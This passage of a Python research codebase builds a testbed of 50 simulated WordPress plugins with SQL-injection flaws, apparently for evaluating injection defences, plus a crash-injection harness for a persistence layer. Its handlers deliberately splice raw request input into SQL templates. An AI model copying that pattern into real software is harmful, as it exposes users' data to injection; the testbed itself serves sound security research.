        columns=(("bot_name", "text"), ("hits", "integer")),
        seed_rows=_rows(("googlebot", 911), ("bingbot", 204)),
        select_cols=3,
        query_template=(
            "SELECT id, bot_name, hits FROM wp_crawltracker_stats WHERE id = {value}"
        ),
    ),
    PluginDef(
        name="eventify",
        title="Eventify",
        version="1.7.1",
        advisory="OSVDB-86245",
        attack_type=AttackType.UNION,
        param="eid",
        context="numeric",
        nti_vector=NtiVector.MAGIC_QUOTES,
        taintless_expected=True,
        leak_function="version",
        source_extra="$ver = 'version';\n$opt = $_GET['version'];",
        table="wp_eventify_events",
        columns=(("title", "text"), ("venue", "text"), ("event_date", "text")),
        seed_rows=_rows(
            ("Meetup", "Hall A", "2015-06-30"),
            ("Concert", "Main stage", "2015-07-04"),
        ),
        select_cols=4,
        query_template=(
            "SELECT id, title, venue, event_date FROM wp_eventify_events "
            "WHERE id = {value}"
        ),
    ),
    PluginDef(
        name="filegroups",
        title="File Groups",
        version="1.1.2",
        advisory="OSVDB-74572",
        attack_type=AttackType.UNION,
        param="group_id",
        context="numeric",
        nti_vector=NtiVector.MAGIC_QUOTES,
        taintless_expected=True,
        leak_function="user",
        source_extra="$owner = $_GET['user'];\n$who = 'user';",
        table="wp_file_groups",
        columns=(("group_name", "text"), ("file_count", "integer")),
        seed_rows=_rows(("docs", 12), ("images", 73)),
        select_cols=3,
        query_template=(
            "SELECT id, group_name, file_count FROM wp_file_groups WHERE id = {value}"
        ),
    ),
    PluginDef(
        name="posthighlights",
        title="post highlights",
        version="2.2",
        advisory="",
        attack_type=AttackType.UNION,
        param="ph_id",
        context="numeric",
        nti_vector=NtiVector.MAGIC_QUOTES,
        taintless_expected=True,
        leak_function="database",
        source_extra="$store = 'database';\n$db = $_GET['database'];",
        table="wp_post_highlights",
        columns=(("post_id", "integer"), ("color", "text")),
        seed_rows=_rows((1, "yellow"), (2, "green")),
        select_cols=3,
        query_template=(
            "SELECT id, post_id, color FROM wp_post_highlights WHERE id = {value}"
        ),
    ),
    PluginDef(
        name="proplayer",
        title="ProPlayer",
        version="4.7.7",
        advisory="",
        attack_type=AttackType.UNION,
        param="playlist_id",
        context="numeric",
        nti_vector=NtiVector.MAGIC_QUOTES,
        taintless_expected=True,
        leak_function="version",
        source_extra="$v = 'version';\n$pv = $_GET['version'];",
        table="wp_proplayer_playlists",
        columns=(("title", "text"), ("url", "text")),
        seed_rows=_rows(("rock", "/pl/rock.xml"), ("jazz", "/pl/jazz.xml")),
        select_cols=3,
        query_template=(
            "SELECT id, title, url FROM wp_proplayer_playlists WHERE id = {value}"
        ),
    ),
    PluginDef(
        name="searchautocomplete",
        title="SearchAutocomplete",
        version="1.0.8",
        advisory="",
        attack_type=AttackType.UNION,
        param="q",
        context="like",
        transforms=("stripslashes", "urldecode"),
        nti_vector=NtiVector.URLDECODE,
        taintless_expected=True,
        leak_function="user",
        source_extra="$u = 'user';\n$uid = $_GET['user'];",
        table="wp_autocomplete_terms",
        columns=(("term", "text"), ("hits", "integer")),
        seed_rows=_rows(("wordpress", 31), ("security", 18)),
        select_cols=3,
        query_template=(
            "SELECT id, term, hits FROM wp_autocomplete_terms "
            "WHERE term LIKE '%{value}%'"
        ),
    ),
    # -- six union plugins Taintless cannot adapt ------------------------
    PluginDef(
        name="eventreg",
        title="Event Registration",
        version="5.43",
        advisory="",
        attack_type=AttackType.UNION,
        param="ev,evx,evy,evz,evw",
        channel="multi",
        context="numeric",
        nti_vector=NtiVector.SPLIT,
        table="wp_event_registrations",
        columns=(("event_id", "integer"), ("attendee", "text"), ("email", "text")),
        seed_rows=_rows(
            (1, "alice", "alice@example.test"), (1, "bob", "bob@example.test")
        ),
        select_cols=3,
        query_template=(
            "SELECT id, attendee, email FROM wp_event_registrations "
            "WHERE event_id = {value}"
        ),
    ),
    PluginDef(
        name="iplogger",
        title="IP-Logger",
        version="3.0",
        advisory="",
        attack_type=AttackType.UNION,
        param="X-Forwarded-For",
        channel="header",
        context="quoted",
        transforms=("urldecode",),
        nti_vector=NtiVector.URLDECODE,
        table="wp_iplogger_log",
        columns=(("ip", "text"), ("hits", "integer")),
        seed_rows=_rows(("10.0.0.1", 4), ("10.0.0.2", 9)),
        select_cols=3,
        query_template=(
            "SELECT id, ip, hits FROM wp_iplogger_log WHERE ip = '{value}' "
            "ORDER BY hits DESC"
        ),
    ),
    PluginDef(
        name="linklibrary",
        title="Link Library",
        version="5.2.1",
        advisory="OSVDB-84579",
        attack_type=AttackType.UNION,
        param="cat_id",
        context="numeric",
        nti_vector=NtiVector.MAGIC_QUOTES,
        table="wp_link_library",
        columns=(
            ("cat_id", "integer"),
            ("link_name", "text"),
            ("link_url", "text"),
            ("visible", "integer"),
        ),
        seed_rows=_rows(
            (1, "Home", "http://example.test", 1),
            (1, "Docs", "http://docs.example.test", 1),
        ),
        select_cols=3,
        query_template=(
            "SELECT id, link_name, link_url FROM wp_link_library "
            "WHERE cat_id = {value} AND visible = 1"
        ),
    ),
    PluginDef(
        name="medialib",
        title="Media Library Categories",
        version="1.0.6",
        advisory="",
        attack_type=AttackType.UNION,
        param="cat",
        context="numeric",
        nti_vector=NtiVector.MAGIC_QUOTES,
        table="wp_media_categories",
        columns=(("file_name", "text"), ("cat_id", "integer")),
        seed_rows=_rows(("a.png", 1), ("b.png", 1), ("c.pdf", 2)),
        select_cols=3,
        query_template=(
            "SELECT id, file_name, cat_id FROM wp_media_categories "
            "WHERE cat_id = {value} AND cat_id > 0"
        ),
    ),
    PluginDef(
        name="oddhost",
        title="OddHost Newsletter",
        version="1.0",
        advisory="OSVDB-74575",
        attack_type=AttackType.UNION,
        param="newsletter_id",
        channel="post",
        context="numeric",
        nti_vector=NtiVector.MAGIC_QUOTES,
        table="wp_oddhost_newsletters",
        columns=(("subject", "text"), ("body", "text"), ("status", "integer")),
        seed_rows=_rows(("Welcome", "Hi there", 1), ("Promo", "Sale now", 1)),
        select_cols=3,
        query_template=(
            "SELECT id, subject, body FROM wp_oddhost_newsletters "
            "WHERE id = {value} AND status = 1"
        ),
    ),
    PluginDef(
        name="paiddownloads",
        title="Paid Downloads",
        version="2.01",
        advisory="OSVDB-86247",
        attack_type=AttackType.UNION,
        param="download",
        context="quoted",
        transforms=("stripslashes",),
        nti_vector=NtiVector.TRIM,
        requires_auth=True,
        table="wp_paid_downloads",
        columns=(("token", "text"), ("file_path", "text"), ("active", "integer")),
        seed_rows=_rows(
            ("tok-aaa", "/files/report.pdf", 1),
            ("tok-bbb", "/files/ebook.pdf", 1),
        ),
        select_cols=3,
        query_template=(
            "SELECT id, token, file_path FROM wp_paid_downloads "
            "WHERE token = '{value}' AND active = 1"
        ),
    ),
]

# ----------------------------------------------------------------------
# Standard-blind plugins (17).  The page is a boolean/error oracle; their
# payloads need scalar subqueries and string functions no application
# fragment supplies, so none are Taintless-evadable.
# ----------------------------------------------------------------------


def _blind(
    name: str,
    title: str,
    version: str,
    advisory: str,
    param: str,
    table: str,
    columns: tuple[tuple[str, str], ...],
    seed_rows: tuple[tuple, ...],
    select_cols: int,
    query_template: str,
    **overrides,
) -> PluginDef:
    base = dict(
        attack_type=AttackType.BLIND,
        channel="get",
        context="numeric",
        render="count",
        nti_vector=NtiVector.MAGIC_QUOTES,
    )
    base.update(overrides)
    return PluginDef(
        name=name,
        title=title,
        version=version,
        advisory=advisory,
        param=param,
        table=table,
        columns=columns,
        seed_rows=seed_rows,
        select_cols=select_cols,
        query_template=query_template,
        **base,
    )


_BLIND_PLUGINS = [
    _blind(
        "gdstarrating", "GD Star Rating", "1.9.10", "OSVDB-83466",
        "post_id", "wp_gdsr_votes",
        (("post_id", "integer"), ("stars", "integer")),
        _rows((1, 5), (1, 4), (2, 3)),
        2,
        "SELECT id, stars FROM wp_gdsr_votes WHERE post_id = {value}",
    ),
    _blind(
        "icopyright", "iCopyright", "1.1.4", "",
        "article", "wp_icopyright_tags",
        (("article_id", "integer"), ("tag", "text")),
        _rows((1, "reprint"), (2, "syndicate")),
        2,
        "SELECT id, tag FROM wp_icopyright_tags WHERE article_id = {value}",
        render="first",
    ),
    _blind(
        "knrauthors", "KNR Author List Widget", "2.0.0", "",
        "author_id", "wp_knr_authors",
        (("display_name", "text"), ("post_count", "integer")),
        _rows(("Alice", 12), ("Bob", 7)),
        2,
        "SELECT id, display_name FROM wp_knr_authors WHERE id = {value}",
        render="first",
    ),
    _blind(
        "mmduplicate", "MM Duplicate", "1.2", "",
        "source_id", "wp_mm_duplicates",
        (("source_id", "integer"), ("copy_id", "integer")),
        _rows((1, 101), (2, 102)),
        2,
        "SELECT id, copy_id FROM wp_mm_duplicates WHERE source_id = {value}",
    ),
    _blind(
        "profiles", "Profiles", "2.0.RC1", "",
        "uid", "wp_profile_fields",
        (("user_id", "integer"), ("field_name", "text"), ("field_value", "text")),
        _rows((1, "twitter", "@alice"), (2, "twitter", "@bob")),
        3,
        "SELECT id, field_name, field_value FROM wp_profile_fields "
        "WHERE user_id = {value}",
    ),
    _blind(
        "shslideshow", "SH Slideshow", "3.1.4", "OSVDB-74813",
        "slide", "wp_sh_slides",
        (("caption", "text"), ("image_url", "text")),
        _rows(("First", "/img/1.jpg"), ("Second", "/img/2.jpg")),
        2,
        "SELECT id, caption FROM wp_sh_slides WHERE id = {value}",
        render="first",
    ),
    _blind(
        "socialslider", "Social Slider", "5.6.5", "OSVDB-74421",
        "icon", "wp_social_icons",
        (("network", "text"), ("url", "text"), ("position", "integer")),
        _rows(("twitter", "http://t.example", 1), ("rss", "/feed", 2)),
        2,
        "SELECT id, network FROM wp_social_icons WHERE position = {value}",
    ),
    _blind(
        "umppolls", "UMP Polls", "1.0.3", "",
        "poll_id", "wp_ump_polls",
        (("question", "text"), ("votes", "integer")),
        _rows(("Best CMS?", 42), ("Tabs or spaces?", 1337)),
        2,
        "SELECT id, votes FROM wp_ump_polls WHERE id = {value}",
        render="count",
    ),
    _blind(
        "videowhisper", "VideoWhisper Video Presentation", "1.1", "",
        "vw_room", "wp_vw_rooms",
        (("room_name", "text"), ("owner_id", "integer")),
        _rows(("lobby", 1), ("studio", 2)),
        2,
        "SELECT id, room_name FROM wp_vw_rooms WHERE owner_id = {value}",
    ),
    _blind(
        "paypaldonation", "Paypal Donation Plugin", "0.12", "",
        "donation", "wp_paypal_donations",
        (("donor", "text"), ("amount", "integer"), ("visible", "integer")),
        _rows(("alice", 50, 1), ("bob", 20, 1)),
        2,
        "SELECT id, donor FROM wp_paypal_donations WHERE id = {value} "
        "AND visible = 1",
    ),
    _blind(
        "wpbannerize", "WP Bannerize", "2.8.7", "OSVDB-76658",
        "banner_group", "wp_bannerize",
        (("group_name", "text"), ("clicks", "integer")),
        _rows(("header", 210), ("sidebar", 87)),
        2,
        "SELECT id, clicks FROM wp_bannerize WHERE group_name = '{value}'",
        context="quoted",
        transforms=("stripslashes", "urldecode"),
        nti_vector=NtiVector.URLDECODE,
    ),
    _blind(
        "wpfilebase", "WP FileBase", "0.2.9", "OSVDB-75308",
        "file_id", "wp_filebase_files",
        (("file_name", "text"), ("downloads", "integer")),
        _rows(("manual.pdf", 33), ("setup.zip", 12)),
        2,
        "SELECT id, file_name FROM wp_filebase_files WHERE id IN ({value})",
        context="in_list",
    ),
    _blind(
        "wpforum", "WP Forum Server", "1.7.8", "CVE-2012-6625",
        "topic", "wp_forum_topics",
        (("topic_title", "text"), ("replies", "integer")),
        _rows(("Welcome", 12), ("Rules", 2)),
        2,
        "SELECT id, topic_title FROM wp_forum_topics WHERE id = {value}",
        channel="post",
    ),
    _blind(
        "wpmenucreator", "WP Menu Creator", "1.1.7", "OSVDB-74578",
        "menu", "wp_menu_items",
        (("menu_id", "integer"), ("label", "text"), ("sort_key", "text")),
        _rows((1, "Home", "a"), (1, "About", "b"), (2, "Blog", "a")),
        2,
        "SELECT id, label FROM wp_menu_items WHERE menu_id = 1 "
        "ORDER BY {value}",
        context="order_by",
        render="list",
    ),
    _blind(
        "yolink", "yolink Search for WordPress", "1.1.4", "OSVDB-74832",
        "offset", "wp_yolink_index",
        (("keyword", "text"), ("weight", "integer")),
        _rows(("alpha", 3), ("beta", 2), ("gamma", 1)),
        2,
        "SELECT id, keyword FROM wp_yolink_index ORDER BY weight DESC "
        "LIMIT 2 OFFSET {value}",
        context="numeric",
        render="list",
    ),
    _blind(
        "zotpress", "Zotpress", "4.4", "",
        "zp_session", "wp_zotpress_sessions",
        (("session_key", "text"), ("account_id", "integer")),
        _rows(("sess-1", 1), ("sess-2", 2)),
        2,
        "SELECT id, account_id FROM wp_zotpress_sessions WHERE id = {value}",
        channel="cookie",
    ),
    _blind(
        "firestorm", "FireStorm Professional Real Estate", "2.06.01", "",
        "listing", "wp_firestorm_listings",
        (("address", "text"), ("price", "integer"), ("sold", "integer")),
        _rows(("1 Main St", 250000, 0), ("2 Oak Ave", 410000, 0)),
        2,
        "SELECT id, address FROM wp_firestorm_listings WHERE id = {value} "
        "AND sold = 0",
    ),
]

# ----------------------------------------------------------------------
# Double-blind plugins (14).  The oracle is response time (SLEEP/BENCHMARK
# behind a condition); payloads need IF/SLEEP which no fragment supplies, so
# none are Taintless-evadable.  AdRotate decodes Base64 input, which blinds
# NTI even to the original exploit (the 49/50 of Table II).
# ----------------------------------------------------------------------


def _double_blind(
    name: str,
    title: str,
    version: str,
    advisory: str,
    param: str,
    table: str,
    columns: tuple[tuple[str, str], ...],
    seed_rows: tuple[tuple, ...],
    select_cols: int,
    query_template: str,
    **overrides,
) -> PluginDef:
    base = dict(
        attack_type=AttackType.DOUBLE_BLIND,
        channel="get",
        context="numeric",
        render="count",
        nti_vector=NtiVector.MAGIC_QUOTES,
    )
    base.update(overrides)
    return PluginDef(
        name=name,
        title=title,
        version=version,
        advisory=advisory,
        param=param,
        table=table,
        columns=columns,
        seed_rows=seed_rows,
        select_cols=select_cols,
        query_template=query_template,
        **base,
    )


_DOUBLE_BLIND_PLUGINS = [
    _double_blind(
        "adrotate", "AdRotate", "3.6.6", "CVE-2011-4671",
        "track", "wp_adrotate_tracker",
        (("ad_id", "integer"), ("impressions", "integer")),
        _rows((1, 900), (2, 450)),
        2,
        "SELECT id, impressions FROM wp_adrotate_tracker WHERE ad_id = {value}",
        transforms=("base64_decode",),
        nti_vector=NtiVector.BASE64,
    ),
    _double_blind(
        "advertiser", "Advertiser", "1.0", "",
        "aid", "wp_advertiser_ads",
        (("campaign", "text"), ("clicks", "integer")),
        _rows(("spring", 52), ("summer", 31)),
        2,
        "SELECT id, clicks FROM wp_advertiser_ads WHERE id = {value}",
    ),
    _double_blind(
        "ajaxgallery", "Ajax Gallery", "3.0", "",
        "gallery", "wp_ajax_galleries",
        (("gallery_name", "text"), ("image_count", "integer")),
        _rows(("vacation", 24), ("pets", 11)),
        2,
        "SELECT id, gallery_name FROM wp_ajax_galleries WHERE id = {value}",
        render="first",
    ),
    _double_blind(
        "couponer", "Couponer", "1.2", "",
        "cid", "wp_couponer_coupons",
        (("coupon_code", "text"), ("uses_left", "integer")),
        _rows(("SAVE10", 100), ("FREESHIP", 20)),
        2,
        "SELECT id, uses_left FROM wp_couponer_coupons WHERE id = {value}",
    ),
    _double_blind(
        "fbpromotions", "Facebook Promotions", "1.3.3", "",
        "promo", "wp_fb_promotions",
        (("promo_name", "text"), ("entries", "integer")),
        _rows(("giveaway", 312), ("contest", 88)),
        2,
        "SELECT id, entries FROM wp_fb_promotions WHERE id = {value}",
    ),
    _double_blind(
        "globalcontent", "Global Content Blocks", "1.2", "OSVDB-74577",
        "block", "wp_gcb_blocks",
        (("block_name", "text"), ("content", "text")),
        _rows(("header-cta", "Buy now"), ("footer-note", "Thanks")),
        2,
        "SELECT id, content FROM wp_gcb_blocks WHERE id = {value}",
        render="first",
    ),
    _double_blind(
        "jsappointment", "Js-appointment", "1.5", "OSVDB-74804",
        "slot", "wp_js_appointments",
        (("slot_time", "text"), ("booked", "integer")),
        _rows(("09:00", 1), ("10:00", 0)),
        2,
        "SELECT id, booked FROM wp_js_appointments WHERE id = {value}",
        channel="post",
    ),
    _double_blind(
        "mingleforum", "Mingle Forum", "1.0.31", "OSVDB-75791",
        "thread", "wp_mingle_threads",
        (("thread_title", "text"), ("post_count", "integer")),
        _rows(("Intro", 14), ("Support", 40)),
        2,
        "SELECT id, post_count FROM wp_mingle_threads WHERE id = {value}",
    ),
    _double_blind(
        "mystat", "MyStat", "2.6", "",
        "visitor", "wp_mystat_visits",
        (("visitor_ip", "text"), ("pageviews", "integer")),
        _rows(("10.1.1.1", 7), ("10.1.1.2", 3)),
        2,
        "SELECT id, pageviews FROM wp_mystat_visits WHERE id = {value}",
    ),
    _double_blind(
        "purehtml", "PureHTML", "1.0.0", "",
        "widget", "wp_purehtml_widgets",
        (("widget_name", "text"), ("markup", "text")),
        _rows(("badge", "<b>hi</b>"), ("banner", "<i>yo</i>")),
        2,
        "SELECT id, markup FROM wp_purehtml_widgets WHERE id = {value}",
        render="first",
    ),
    _double_blind(
        "scormcloud", "SCORM Cloud", "1.0.6.6", "OSVDB-74804",
        "course", "wp_scorm_courses",
        (("course_name", "text"), ("enrolled", "integer")),
        _rows(("Safety 101", 25), ("Onboarding", 14)),
        2,
        "SELECT id, enrolled FROM wp_scorm_courses WHERE id = {value}",
    ),
    _double_blind(
        "wpdsfaq", "WP DS FAQ", "1.3.2", "OSVDB-74574",
        "faq", "wp_dsfaq_entries",
        (("question", "text"), ("answer", "text")),
        _rows(("What is this?", "A FAQ"), ("How?", "Like so")),
        2,
        "SELECT id, question FROM wp_dsfaq_entries WHERE id = {value}",
        render="first",
    ),
    _double_blind(
        "fbopengraph", "Facebook Opengraph Meta", "1.0", "",
        "og_post", "wp_fb_og_meta",
        (("post_id", "integer"), ("og_title", "text")),
        _rows((1, "Post one"), (2, "Post two")),
        2,
        "SELECT id, og_title FROM wp_fb_og_meta WHERE post_id = {value}",
    ),
    _double_blind(
        "wpaudiogallery", "WP Audio Gallery Playlist", "0.12", "",
        "audio_post", "wp_audio_playlist",
        (("post_id", "integer"), ("track_url", "text")),
        _rows((1, "/a/one.mp3"), (2, "/a/two.mp3")),
        2,
        "SELECT id, track_url FROM wp_audio_playlist WHERE post_id = {value}",
    ),
]


#: The full WP-SQLI-LAB plugin corpus, ordered by attack type.
ALL_PLUGINS: list[PluginDef] = (
    _TAUTOLOGY_PLUGINS + _UNION_PLUGINS + _BLIND_PLUGINS + _DOUBLE_BLIND_PLUGINS
)

_BY_NAME = {p.name: p for p in ALL_PLUGINS}


def plugin_by_name(name: str) -> PluginDef:
    """Look up a plugin definition by slug; raises KeyError when unknown."""
    return _BY_NAME[name]


def _census() -> dict[str, int]:
    counts: dict[str, int] = {}
    for plugin in ALL_PLUGINS:
        counts[plugin.attack_type] = counts.get(plugin.attack_type, 0) + 1
    return counts


# Table I invariant, kept as an import-time assertion so a drifting corpus
# fails loudly rather than silently skewing every experiment.
_COUNTS = _census()
assert len(ALL_PLUGINS) == 50, f"expected 50 plugins, found {len(ALL_PLUGINS)}"
assert _COUNTS == {
    AttackType.TAUTOLOGY: 4,
    AttackType.UNION: 15,
    AttackType.BLIND: 17,
    AttackType.DOUBLE_BLIND: 14,
}, f"Table I census mismatch: {_COUNTS}"
