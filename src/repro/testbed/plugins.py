"""Materialise :mod:`plugin_defs` into installable plugins.

For each :class:`~repro.testbed.plugin_defs.PluginDef` this module:

- creates and seeds the plugin's backing table;
- generates the plugin's PHP source (header comment, input handling with the
  declared transform chain, the query template with ``$input`` interpolation,
  plus any extra literals) -- the text Joza's installer scans for fragments;
- builds the route handler that performs the *same* logic in Python: fetch
  the parameter, run the transforms, splice into the template, query through
  the (interceptable) database wrapper, render.

The handler and the source are generated from the same template string, so
the plugin's benign queries are always covered by its own fragments -- the
property real PHP code has and PTI depends on.
"""

from __future__ import annotations

from ..database import Column, ColumnType, TableSchema
from ..phpapp.application import Handler, Plugin, WebApplication
from ..phpapp.request import HttpRequest
from ..phpapp.transforms import named as transform_named
from .plugin_defs import ALL_PLUGINS, PluginDef
from .wordpress import build_wordpress

__all__ = [
    "generate_php_source",
    "make_handler",
    "build_plugin",
    "install_plugin",
    "build_testbed",
]

_CHANNEL_SUPERGLOBAL = {
    "get": "$_GET",
    "post": "$_POST",
    "cookie": "$_COOKIE",
    "header": "$_SERVER",
    "multi": "$_GET",
}

_COLUMN_TYPES = {"integer": ColumnType.INTEGER, "text": ColumnType.TEXT}


def generate_php_source(defn: PluginDef) -> str:
    """Emit the plugin's PHP source text (the fragment-extraction input)."""
    superglobal = _CHANNEL_SUPERGLOBAL[defn.channel]
    lines = [
        "<?php",
        "/*",
        f"Plugin Name: {defn.title}",
        f"Version: {defn.version}",
        "*/",
    ]
    if defn.channel == "multi":
        parts = " . ".join(f"$_GET['{p}']" for p in defn.params)
        lines.append(f"$input = {parts};")
    else:
        lines.append(f"$input = {superglobal}['{defn.param}'];")
    for transform in defn.transforms:
        lines.append(f"$input = {transform}($input);")
    php_template = defn.query_template.replace("{value}", "$input")
    lines.append(f'$query = "{php_template}";')
    lines.append("$result = mysql_query($query);")
    if defn.source_extra:
        lines.append(defn.source_extra)
    lines.append("?>")
    return "\n".join(lines)


def _raw_value(defn: PluginDef, request: HttpRequest) -> str:
    if defn.channel == "get":
        return request.get.get(defn.param, "")
    if defn.channel == "post":
        return request.post.get(defn.param, "")
    if defn.channel == "cookie":
        return request.cookies.get(defn.param, "")
    if defn.channel == "header":
        return request.headers.get(defn.param, "")
    if defn.channel == "multi":
        return "".join(request.get.get(p, "") for p in defn.params)
    raise ValueError(f"unknown channel {defn.channel!r}")


def _render(defn: PluginDef, rows: list[tuple]) -> str:
    heading = f"<h2>{defn.title}</h2>"
    if defn.render == "count":
        if rows:
            return f"{heading}\n<p>Found {len(rows)} result(s).</p>"
        return f"{heading}\n<p>No results.</p>"
    if defn.render == "first":
        if rows:
            return f"{heading}\n<div>{' | '.join(str(v) for v in rows[0])}</div>"
        return f"{heading}\n<p>No results.</p>"
    lines = [heading]
    lines.extend(f"<div>{' | '.join(str(v) for v in row)}</div>" for row in rows)
    if not rows:
        lines.append("<p>No results.</p>")
    return "\n".join(lines)


def make_handler(defn: PluginDef) -> Handler:
    """Build the route handler mirroring the generated PHP logic."""
    pipeline = [transform_named(name) for name in defn.transforms]

    def handler(app: WebApplication, request: HttpRequest) -> str:
        value = _raw_value(defn, request)
        for transform in pipeline:
            value = transform(value)
        query = defn.query_template.replace("{value}", value)
        result = app.wrapper.query(query)
        return _render(defn, result.rows)

    return handler


def build_plugin(defn: PluginDef) -> Plugin:
    """Construct the :class:`~repro.phpapp.application.Plugin` object."""
    return Plugin(
        name=defn.name,
        version=defn.version,
        source=generate_php_source(defn),
        routes={defn.route: make_handler(defn)},
    )


def _sql_literal(value: object) -> str:
    if isinstance(value, (int, float)):
        return str(value)
    text = str(value).replace("\\", "\\\\").replace("'", "\\'")
    return f"'{text}'"


def install_plugin(app: WebApplication, defn: PluginDef) -> None:
    """Create/seed the plugin table and register the plugin on the app."""
    columns = [
        Column("id", ColumnType.INTEGER, primary_key=True, auto_increment=True)
    ]
    columns.extend(
        Column(name, _COLUMN_TYPES[kind]) for name, kind in defn.columns
    )
    app.db.create_table(TableSchema(defn.table, columns))
    col_names = ", ".join(name for name, __ in defn.columns)
    for row in defn.seed_rows:
        values = ", ".join(_sql_literal(v) for v in row)
        app.db.execute(
            f"INSERT INTO {defn.table} ({col_names}) VALUES ({values})"
        )
    app.register_plugin(build_plugin(defn))


def build_testbed(
    num_posts: int = 30,
    plugins: list[PluginDef] | None = None,
    render_cost: int = 0,
) -> WebApplication:
    """WordPress + the vulnerable plugin corpus (WP-SQLI-LAB), unprotected.

    Callers attach Joza with ``JozaEngine.protect(app)`` when they want the
    guarded configuration.
    """
    app = build_wordpress(num_posts, render_cost)
    for defn in plugins if plugins is not None else ALL_PLUGINS:
        install_plugin(app, defn)
    return app
