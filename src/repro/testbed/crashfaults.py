"""Crash-injection harness for the durability subsystem (DESIGN.md §15).

Proves the two recovery guarantees the persist layer makes -- restart
equivalence (recovery restores exactly the durable prefix of the
pre-crash state) and never-fail-open (damage is either truncated torn
tail or a typed :class:`~repro.persist.JournalCorrupt` refusal, never a
silently wrong vocabulary) -- under three fault families:

- **Simulated crashes**: :class:`FaultPlan` wraps every file the persist
  layer opens in a :class:`FaultFile`; the N-th write lands only a
  prefix of its bytes and then the process "dies" (a
  :class:`SimulatedCrash` unwinds the stack; handles are simply dropped,
  exactly what SIGKILL leaves behind).  Rename crashes kill between the
  tmp-file fsync and the atomic publish.
- **Real SIGKILL**: :func:`run_to_sigkill` forks a child that applies an
  op sequence against a real :class:`~repro.persist.DurableState` and is
  killed by an *actual* ``SIGKILL`` mid-append / mid-checkpoint /
  mid-rename -- no Python cleanup, no atexit, no flush.
- **Disk rot**: :func:`flip_byte` mangles durable files in place for the
  corruption-refusal properties.

:class:`StoreOracle` is the in-memory model: it mirrors the fragment
store's mutation semantics (dedup, epoch arithmetic) and the audit
trail, so a test can compute the expected state after any *prefix* of an
op sequence and compare it against what ``recover()`` restores.

Determinism: like :mod:`repro.testbed.faults`, nothing here sleeps or
consults wall clocks; crash points are indices into the deterministic
stream of write calls, so a failing schedule replays exactly.
"""

from __future__ import annotations

import multiprocessing
import os
import signal
from dataclasses import dataclass
from typing import Iterable, Sequence

__all__ = [
    "SimulatedCrash",
    "FaultFile",
    "FaultPlan",
    "StoreOracle",
    "apply_op",
    "apply_ops",
    "flip_byte",
    "generate_ops",
    "run_to_sigkill",
]


class SimulatedCrash(BaseException):
    """The process "died" at a scheduled fault point.

    A ``BaseException`` on purpose: process death must not be absorbed
    by ``except Exception`` guards (the audit ring's sink isolation, the
    gateway's best-effort paths) -- a real SIGKILL would not be.
    """


@dataclass
class FaultPlan:
    """One deterministic crash schedule shared by every wrapped file.

    ``crash_at_write`` counts *write calls* globally across journal and
    checkpoint files (1-based); at that call only ``partial_fraction``
    of the bytes land before the crash.  ``crash_at_rename`` counts
    checkpoint publishes: the tmp file is fully written and fsynced, but
    the process dies before ``os.replace`` -- the stale-tmp-sweep /
    old-checkpoint-wins path.  ``hard_kill`` swaps the in-process
    :class:`SimulatedCrash` for a genuine ``SIGKILL`` (use only inside a
    sacrificial child; see :func:`run_to_sigkill`).
    """

    crash_at_write: int | None = None
    partial_fraction: float = 0.5
    crash_at_rename: int | None = None
    hard_kill: bool = False
    writes_seen: int = 0
    renames_seen: int = 0
    crashed: bool = False

    def _die(self, what: str) -> None:
        self.crashed = True
        if self.hard_kill:
            os.kill(os.getpid(), signal.SIGKILL)
        raise SimulatedCrash(what)

    def on_write(self, raw, data: bytes) -> None:
        self.writes_seen += 1
        if (
            self.crash_at_write is not None
            and self.writes_seen == self.crash_at_write
        ):
            keep = data[: max(0, int(len(data) * self.partial_fraction))]
            if keep:
                raw.write(keep)
            # The partial bytes reach the OS before "death": handles are
            # dropped unflushed by a real SIGKILL, but the bytes already
            # accepted by write(2) survive -- model that by flushing the
            # prefix only.
            raw.flush()
            self._die(f"crash at write #{self.writes_seen} ({len(keep)}/{len(data)}B)")

    def on_rename(self, src: str, dst: str) -> None:
        self.renames_seen += 1
        if (
            self.crash_at_rename is not None
            and self.renames_seen == self.crash_at_rename
        ):
            self._die(f"crash before rename {src!r} -> {dst!r}")
        os.replace(src, dst)

    # -- injection points for the persist layer ------------------------

    def opener(self):
        """An ``opener`` for :class:`~repro.persist.DurableState`.

        Journals open append-mode; checkpoint temp files (``*.tmp``)
        open write-mode -- the same discrimination the real ``open``
        calls make.
        """

        def _open(path: str):
            mode = "wb" if path.endswith(".tmp") else "ab"
            return FaultFile(open(path, mode), self)

        return _open

    def replace(self):
        return self.on_rename


class FaultFile:
    """File wrapper routing writes through a :class:`FaultPlan`."""

    def __init__(self, raw, plan: FaultPlan) -> None:
        self._raw = raw
        self._plan = plan

    def write(self, data: bytes) -> int:
        self._plan.on_write(self._raw, data)
        return self._raw.write(data)

    def flush(self) -> None:
        self._raw.flush()

    def fileno(self) -> int:
        return self._raw.fileno()

    def tell(self) -> int:
        return self._raw.tell()

    def seek(self, offset: int, whence: int = 0) -> int:
        return self._raw.seek(offset, whence)

    def truncate(self, size: int | None = None) -> int:
        return self._raw.truncate(size)

    def close(self) -> None:
        self._raw.close()


def flip_byte(path: str, offset: int, mask: int = 0xFF) -> None:
    """XOR one byte of a durable file in place (disk-rot injection)."""
    with open(path, "r+b") as handle:
        handle.seek(offset)
        original = handle.read(1)
        if not original:
            raise ValueError(f"offset {offset} beyond end of {path}")
        handle.seek(offset)
        handle.write(bytes([original[0] ^ mask]))


# ----------------------------------------------------------------------
# Op sequences and the in-memory oracle
# ----------------------------------------------------------------------

#: Ops are plain picklable tuples so the SIGKILL child can receive them:
#: ("add", [frags]) / ("remove", frag) / ("reload", [frags]) /
#: ("audit", {...}) / ("overlay", tenant_id, [frags]).


def apply_op(state, op) -> None:
    """Apply one op tuple to a :class:`~repro.persist.DurableState`."""
    kind = op[0]
    if kind == "add":
        state.store.add_many(op[1])
    elif kind == "remove":
        state.store.remove(op[1])
    elif kind == "reload":
        state.store.reload(op[1])
    elif kind == "audit":
        state.append_audit(op[1])
    elif kind == "overlay":
        state.set_overlay(op[1], op[2])
    else:  # pragma: no cover - schedule construction bug
        raise ValueError(f"unknown op kind {kind!r}")


def apply_ops(state, ops: Iterable) -> None:
    for op in ops:
        apply_op(state, op)


class StoreOracle:
    """Pure in-memory model of the durable state's semantics.

    Mirrors :class:`~repro.pti.fragments.FragmentStore` exactly: dedup
    on add (epoch advances by the count actually inserted), remove bumps
    one, reload dedups in kept order and bumps one; audit events and
    tenant overlays accumulate.  ``apply`` returns ``self`` so tests can
    fold an op prefix.
    """

